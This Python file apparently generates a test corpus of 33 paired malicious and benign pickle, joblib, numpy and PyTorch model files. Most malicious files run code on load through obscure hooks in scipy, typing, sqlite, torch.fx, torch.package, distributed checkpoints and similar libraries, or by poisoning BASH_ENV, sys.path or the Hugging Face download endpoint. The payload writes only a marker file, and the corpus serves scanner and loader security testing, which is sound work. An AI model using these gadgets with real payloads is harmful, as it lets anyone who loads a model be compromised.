"""Pickles and torch files: 33 pairs. The loader is `pickle.load` (joblib, pandas) or `torch.load` unless a note says otherwise.

The payload is reached through hooks that the classes of ordinary libraries have (a template they compile, a state they
decode, an entry they resolve) or by writing to tables that a later honest call reads.
"""
from __future__ import annotations

import io
import pickle
import tarfile
import types
import zipfile

import numpy as np

from assembly import build, call, dot, get, glob, model, new, new_ex, old, pickle as pk, put, seq, text, val, Raw

FAMILY = "pickle"
CODE = "open('marker','w').close()"
LOAD = "run15:import pickle; pickle.load(open(path,'rb'))"
TORCH = "run15:import torch; torch.load(path, weights_only=False)"


def setitem(target, key, value):
    return Raw(val(target) + val(key) + val(value) + b"s")


def append(target, value):
    return Raw(val(target) + val(value) + b"a")


def tzip(data: bytes, root="archive", more=(), method=zipfile.ZIP_STORED, name="data.pkl") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        z.writestr(f"{root}/{name}", data)
        z.writestr(f"{root}/byteorder", b"little")
        for k, v in more:
            z.writestr(f"{root}/{k}", v)
        z.writestr(f"{root}/version", b"3\n")
    return out.getvalue()


def saved(obj) -> bytes:
    import torch

    out = io.BytesIO()
    torch.save(obj, out)
    return out.getvalue()


def entry(spec):
    """importlib.metadata.EntryPoint(...).load(): a callable from a string."""
    point = call(glob("importlib.metadata", "EntryPoint"), "score", spec, "models")
    return call(dot("importlib.metadata", "EntryPoint", "load"), point)


def add(out):
    import scipy.stats
    import torch

    p = lambda name, h, t, prove=LOAD, file="model.pkl", why="": out.add(FAMILY, name, h, t, prove, file, why)
    t = lambda name, h, tw, prove=TORCH, file="pytorch_model.bin", why="": out.add("torch", name, h, tw, prove, file, why)

    # scipy's rv_generic.__setstate__ compiles `_parse_arg_template` of the state it is given.
    norm = dot("scipy.stats._continuous_distns", "norm_gen")
    honest = pickle.dumps({"noise": scipy.stats.norm, "prior": scipy.stats.gamma(2.0), "scale": 0.1})
    rv = build(new(norm), {"a": float("-inf"), "b": float("inf"), "name": "norm", "_parse_arg_template": CODE})
    p("scipy-argument-template", pk(model(rv)), honest)
    # typing.get_type_hints evaluates annotation strings of any object.
    ns = build(call(glob("types", "SimpleNamespace")), {"__annotations__": {"width": CODE}})
    nst = types.SimpleNamespace(__annotations__={"width": "int", "names": "list[str]"})
    p("annotations-evaluated", pk(model(call(glob("typing", "get_type_hints"), ns))), pickle.dumps({"epoch": 3, "schema": nst, "name": "classifier"}))
    # entry point resolved and called, kept as data in the twin.
    import importlib.metadata as im

    p("entry-point-loaded", pk(model(call(entry("cProfile:run"), CODE))), pickle.dumps({"plugins": [im.EntryPoint("score", "sklearn.metrics:accuracy_score", "models")]}))
    # site.addsitedir runs the import lines of .pth files beside the model.
    folder = {"hooks/vocab.pth": "import os; open('marker','w').close()\n"}
    p("site-folder", {"model.pkl": pk(model(call(glob("site", "addsitedir"), "hooks"))), **folder},
      {"model.pkl": pickle.dumps({"epoch": 3, "extra": "hooks", "weights": [0.5, 1.0]}), "hooks/vocab.pth": "../shared/tokens\n"})
    # a sub-interpreter gets the source text.
    src = "open('marker','w').close()\n"
    p("sub-interpreter", pk(model(call(glob("_xxsubinterpreters", "run_string"), call(glob("_xxsubinterpreters", "create")), src))),
      pickle.dumps({"epoch": 3, "extra": ("postprocess", "def score(x):\n    return x.mean()\n")}))
    browser = call(glob("webbrowser", "GenericBrowser"), ["touch", "%s"])
    p("browser-command", pk(model(call(dot("webbrowser", "GenericBrowser", "open"), browser, "marker"))), pickle.dumps({"viewer": ["xdg-open", "%s"], "open": "report.html"}))
    p("mail-capability-test", pk(model(call(glob("mailcap", "findmatch"), {"text/x-model": [{"test": "touch marker", "view": "cat %s"}]}, "text/x-model"))),
      pickle.dumps({"mime": {"text/x-model": [{"test": "test -n \"$DISPLAY\"", "view": "cat %s"}]}}))
    p("spawned-through-util", pk(model(call(glob("multiprocessing.util", "spawnv_passfds"), b"/bin/sh", [b"sh", b"-c", b"touch marker; sleep 0.1"], []))),
      pickle.dumps({"launcher": [b"sh", b"-c", b"python train.py"]}), LOAD + "; import time; time.sleep(1)")
    p("library-test-helper", pk(model(call(glob("sklearn.utils._testing", "assert_run_python_script_without_output"), f"import os; os.chdir(os.environ.get('PWD_OF_MODEL') or '.'); {CODE}"))),
      pickle.dumps({"self_test": "import sklearn; print(sklearn.__version__)"}), "run15:import os; os.environ['PWD_OF_MODEL']=os.getcwd(); import pickle; pickle.load(open(path,'rb'))")
    env = call(glob("patsy.eval", "EvalEnvironment"), [{}], 0)
    p("formula-environment", pk(model(call(dot("patsy.eval", "EvalEnvironment", "eval"), env, "__import__('pathlib').Path('marker').touch()"))),
      pickle.dumps({"formula": "y ~ x1 + np.log(x2) + C(group)", "levels": {"group": ["a", "b"]}}))
    con = put(1, call(glob("sqlite3", "connect"), ":memory:"))
    script = "ATTACH DATABASE 'marker' AS m; CREATE TABLE m.t(x);"
    p("database-attached", pk(model(seq(con, call(dot("sqlite3", "Connection", "executescript"), get(1), script)))),
      pickle.dumps({"store": ("sqlite3", ":memory:"), "schema": "CREATE TABLE runs(id INTEGER, loss REAL);"}))
    # A table written without any call: the next honest shell of the loader reads BASH_ENV.
    poisoned = Raw(old("os", "environ") + text("BASH_ENV") + text("./weights/init.sh") + b"s" + b"0" + val({"epoch": 3, "weights": [0.1, 0.2]}))
    p("environment-written", {"model.pkl": pk(poisoned), "weights/init.sh": "touch marker\n"},
      {"model.pkl": pickle.dumps({"epoch": 3, "environ": {"OMP_NUM_THREADS": "4", "BASH_ENV": ""}, "weights": [0.1, 0.2]}), "weights/init.sh": "export OMP_NUM_THREADS=4\n"},
      "run15:import pickle, subprocess; pickle.load(open(path,'rb')); subprocess.run(['bash','-c','nvidia-smi -L || true'])")
    # sys.path grows by one entry: the next optional import finds the attacker's file.
    grown = Raw(old("sys", "path") + text("cache") + b"a" + b"0" + val({"epoch": 3, "weights": [0.1, 0.2]}))
    p("search-path-appended", {"model.pkl": pk(grown, 2), "cache/ujson.py": CODE + "\n"}, {"model.pkl": pickle.dumps({"path": ["cache"], "weights": [0.1, 0.2]}), "cache/ujson.py": '"""Parsed vocabulary, see build.py."""\nVOCABULARY = ["a", "b"]\n'},
      "run15:import pickle\npickle.load(open(path,'rb'))\ntry:\n    import ujson\nexcept ImportError:\n    pass")
    # The download host of a library rewritten through its module dictionary; no call. Harm: later downloads come from there.
    hub = Raw(old("huggingface_hub.constants", "__dict__") + text("ENDPOINT") + text("https://hf-mirror.models-cdn.example") + b"s0" + val({"weights": [0.1]}))
    p("download-host-rewritten", pk(hub, 2), pickle.dumps({"ENDPOINT": "https://huggingface.co", "weights": [0.1]}),
      "run15:import pickle, huggingface_hub.constants as c; pickle.load(open(path,'rb'))\nif 'models-cdn' in c.ENDPOINT: open('marker','w').close()")
    # String resolvers of common libraries, then the call.
    six = call(dot("six", "MovedAttribute", "_resolve"), call(glob("six", "MovedAttribute"), "run", "cProfile", "cProfile", "run"))
    p("moved-attribute", pk(model(call(six, CODE)), 4), pickle.dumps({"moved": [("run", "cProfile", "cProfile")], "weights": np.ones(3)}))
    mod = put(2, call(glob("pandas.compat._optional", "import_optional_dependency"), "cProfile"))
    p("optional-dependency", pk(model(call(call(glob("xmlrpc.server", "resolve_dotted_attribute"), mod, "run"), CODE))), pickle.dumps({"optional": ["cProfile"], "frame": __import__("pandas").DataFrame({"a": [1.0]})}))
    # bisect's key function (3.10) is called with the list's items; the key is found by skops' own importer.
    key = call(glob("skops.io._utils", "gettype"), "cProfile", "run")
    p("bisect-key", pk(model(new_ex(glob("functools", "partial"), (glob("bisect", "bisect_left"), [CODE], 0), {"key": key}))),
      pickle.dumps({"extra": __import__("functools").partial(__import__("bisect").bisect_left, [0.1, 0.5, 0.9])}),
      "run15:import pickle\nq = pickle.load(open(path,'rb'))['extra']\ntry:\n    q()\nexcept TypeError:\n    pass")
    # Chroma reads `index_metadata.pickle`, LangChain's FAISS reads `index.pkl`: a vector index with a hook in a dependency of its docstore.
    p("vector-index-metadata", {"index_metadata.pickle": pk(val({"dimensionality": 384, "total_elements_added": 2, "id_to_label": call(glob("runpy", "_run_code"), call(glob("builtins", "compile"), CODE, "index", "exec"), {})})), "header.bin": b"\0" * 100},
      {"index_metadata.pickle": pickle.dumps({"dimensionality": 384, "total_elements_added": 2, "id_to_label": {"a": 1, "b": 2}, "label_to_id": {1: "a", 2: "b"}}), "header.bin": b"\0" * 100})

    # ---- torch
    sub = glob("torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler", "SubprocessHandler")
    t("elastic-worker", tzip(pk(model(call(sub, "touch", ("marker",), {}, None, None, 0, None)), 2)), saved({"epoch": 3, "weights": torch.ones(2), "launcher": ("touch", ("log.txt",), {}, None)}),
      TORCH + "; import time; time.sleep(1)")
    g = torch.fx.symbolic_trace(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU()))
    honest = saved(g)
    z = zipfile.ZipFile(io.BytesIO(honest))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as w:  # the same graph module; the default of an argument is a call
        for n in z.namelist():
            d = z.read(n)
            if n.endswith("data.pkl"):
                m = d.index(b"def forward(self, input")
                start = d.rindex(b"X", 0, m)
                size = int.from_bytes(d[start + 1:start + 5], "little")
                body = d[start + 5:start + 5 + size]
                evil = body.replace(b"):", b", scale=__import__('pathlib').Path('marker').touch()):", 1)
                d = d[:start + 1] + len(evil).to_bytes(4, "little") + evil + d[start + 5 + size:]
            w.writestr(n, d)
    t("graph-module-default-argument", buf.getvalue(), honest, file="model.pt")
    # _rebuild_from_type_v2 calls __setstate__ of whatever type it is told: scipy's compiles its template.
    chain = call(glob("torch._tensor", "_rebuild_from_type_v2"), norm, norm, (), {"_parse_arg_template": CODE})
    par = torch.nn.Parameter(torch.ones(2, 2))
    par.tag = "frozen"
    t("typed-rebuild-of-a-stranger", tzip(pk(val({"layer.weight": chain}), 2)), saved({"layer.weight": par}))
    # A storage of an old tensor pickle carries a whole torch file in its bytes.
    inner = tzip(pk(model(call(glob("cProfile", "runctx"), CODE, {}, {})), 2))
    outer = pk(val({"w": call(old("torch.storage", "_load_from_bytes"), inner)}), 3)
    p("storage-bytes", outer, pickle.dumps({"w": torch.arange(4.0)}))
    # TransformerEngine's set_extra_state unpickles the bytes of a uint8 tensor (its lines are repeated to prove it).
    te = "\nfor k, state in sd.items():\n    if k.endswith('_extra_state') and state is not None: pickle.loads(state.detach().cpu().numpy().tobytes())"
    bad = torch.frombuffer(bytearray(pk(call(glob("cProfile", "run"), CODE))), dtype=torch.uint8)
    good = torch.frombuffer(bytearray(pickle.dumps({"scale_fwd": [1.0], "amax_history_fwd": [[0.0]], "global_fp8_state": (1, 0), "recipe": "delayed"})), dtype=torch.uint8)
    t("extra-state", saved({"decoder.layers.0.self_attention.linear_qkv.weight": torch.ones(4, 4), "decoder.layers.0.self_attention.linear_qkv._extra_state": bad}),
      saved({"decoder.layers.0.self_attention.linear_qkv.weight": torch.ones(4, 4), "decoder.layers.0.self_attention.linear_qkv._extra_state": good}), "run15:import torch, pickle; sd = torch.load(path, weights_only=True)" + te, file="mp_rank_00_model_states.pt")
    # Distributed checkpoint: `.metadata` is read with pickle.load by FileSystemReader.
    import tempfile

    import torch.distributed.checkpoint as dcp

    with tempfile.TemporaryDirectory() as d:
        dcp.save({"w": torch.ones(3)}, checkpoint_id=d, no_dist=True)
        import pathlib

        parts = {f.name: f.read_bytes() for f in sorted(pathlib.Path(d).iterdir())}
    order = {".metadata": parts.pop(".metadata"), **parts}
    honest = order[".metadata"]
    evil = b"\x80\x04" + call(glob("cProfile", "run"), CODE) + b"0" + (honest[11:] if honest[2:3] == b"\x95" else honest[2:])
    t("distributed-metadata", {**order, ".metadata": evil}, order, "run15:from torch.distributed.checkpoint import FileSystemReader; FileSystemReader('.').read_metadata()")
    # The wrapper of a data pipe decodes its state with pickle.loads.
    wrap = glob("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper")
    from torch.utils.data.datapipes.datapipe import _IterDataPipeSerializationWrapper
    from torch.utils.data.datapipes.iter import IterableWrapper

    t("data-pipe-wrapper", tzip(pk(model(build(new(wrap), (pk(call(glob("cProfile", "run"), CODE)), False))), 2)), saved({"pipe": _IterDataPipeSerializationWrapper(IterableWrapper([1, 2, 3])), "epoch": 3}))
    # torch.package: code runs when the object is loaded.
    from torch.package import PackageExporter

    def package(source):
        o = io.BytesIO()
        with PackageExporter(o) as e:
            e.save_source_string("scorer", source)
            e.save_pickle("model", "model.pkl", {"w": torch.ones(2)})
            e.save_text("model", "card.txt", "scorer\n")
        return o.getvalue()

    t("package-module-state", package("import functools\nclass Scorer:\n    def __init_subclass__(cls, code=None):\n        code and eval(code)\nclass Linear(Scorer, code=\"%s\"):\n    pass\n" % CODE),
      package("import functools\nclass Scorer:\n    def __init_subclass__(cls, units=None):\n        cls.units = units\nclass Linear(Scorer, units=3):\n    pass\n"),
      "run15:import torch.package as tp; i=tp.PackageImporter(path); i.load_pickle('model','model.pkl'); i.import_module('scorer')", file="scorer.pt")
    # A forward hook of a whole model, run at the first inference.
    net = torch.nn.Linear(2, 2)
    import cProfile, functools

    net.register_forward_pre_hook(functools.partial(cProfile.runctx, CODE, {}, {}))
    calm = torch.nn.utils.weight_norm(torch.nn.Linear(2, 2))
    t("forward-hook", saved(net), saved(calm), "run15:import torch; m = torch.load(path, weights_only=False)\ntry:\n    m(torch.ones(1,2))\nexcept (TypeError, AttributeError):\n    pass", file="linear.pt")
    # .pt2: a constant is loaded with weights_only=False by torch.export.load (the same archive otherwise).
    class Lin(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.l = torch.nn.Linear(2, 2)
            self.c = torch.ones(2)

        def forward(self, x):
            return self.l(x) + self.c

    o = io.BytesIO()
    torch.export.save(torch.export.export(Lin(), (torch.ones(1, 2),)), o)
    honest = o.getvalue()
    z = zipfile.ZipFile(io.BytesIO(honest))
    buf = io.BytesIO()
    import json

    with zipfile.ZipFile(buf, "w") as w:
        for n in z.namelist():
            d = z.read(n)
            if n.endswith("constants_config.json") or n.endswith("weights_config.json"):
                j = json.loads(d)
                for v in j["config"].values():
                    v["use_pickle"] = True
                d = json.dumps(j).encode()
            elif "/data/constants/" in n or "/data/weights/" in n:
                if not n.endswith(".json"):
                    d = tzip(pk(call(glob("cProfile", "run"), CODE), 2))
            w.writestr(n, d)
    t("export-pickled-weight", buf.getvalue(), honest, "run15:import torch; torch.export.load(path)", file="model.pt2")
    # An ordinary state dict, deflated as torch's miniz reads it, the pickle cut in the middle of its last list after the call.
    t("deflated-and-cut", tzip(pk(call(entry("cProfile:run"), CODE), 4)[:-1] + b"0](K\x01K\x02", method=zipfile.ZIP_DEFLATED), tzip(pickle.dumps({"weights": [0.5, 1.0]}, 2), method=zipfile.ZIP_DEFLATED), file="model.ckpt")
    # Legacy tar of torch 0.1: the `pickle` member after tensors and storages.
    def tar(main):
        o = io.BytesIO()
        with tarfile.open(fileobj=o, mode="w", format=tarfile.PAX_FORMAT) as f:
            for n, d in (("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)), ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", main)):
                i = tarfile.TarInfo(n)
                i.size = len(d)
                f.addfile(i, io.BytesIO(d))
        return o.getvalue()

    t("legacy-tar-state", tar(pk(val({"w": build(new(norm), {"_parse_arg_template": CODE})}), 2)), tar(pickle.dumps({"w": [0.25, 0.5]}, 2)), file="resnet.pth.tar")
    # numpy: an object array in an .npz whose member has no .npy ending and is read by `load(...)[name]`; pandas frame with a hook in an attribute.
    def npz(h):
        o = io.BytesIO()
        with zipfile.ZipFile(o, "w") as w:
            b = io.BytesIO()
            np.save(b, np.ones((2, 2)))
            w.writestr("weights.npy", b.getvalue())
            w.writestr("classes", h)
        return o.getvalue()

    hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += b" " * (63 - (10 + len(hdr)) % 64) + b"\n"
    npy = lambda body: b"\x93NUMPY\x01\x00" + len(hdr).to_bytes(2, "little") + hdr + body
    out.add(FAMILY, "npz-member-without-ending", npz(npy(pk(call(six, CODE)))), npz(npy(pickle.dumps(np.array(["cat"], dtype=object)))), "numpy", "labels.npz", "numpy reads a member by its magic, not by its name")
    import joblib

    o = io.BytesIO()
    joblib.dump({"scaler": np.ones(3), "frozen": scipy.stats.norm(0, 1)}, o, compress=("lzma", 3))
    import lzma

    out.add(FAMILY, "joblib-lzma-distribution", lzma.compress(pk(model(rv)), format=lzma.FORMAT_ALONE), o.getvalue(), "joblib", "scaler.joblib.lzma")
    tail = pickle.dumps(np.arange(3.0), 5)
    p("third-of-a-stack", pickle.dumps({"format": 2}) + tail + pk(call(entry("cProfile:run"), CODE)), pickle.dumps({"format": 2}) + tail + pickle.dumps({"done": True}), "pickle", "states.pkl")
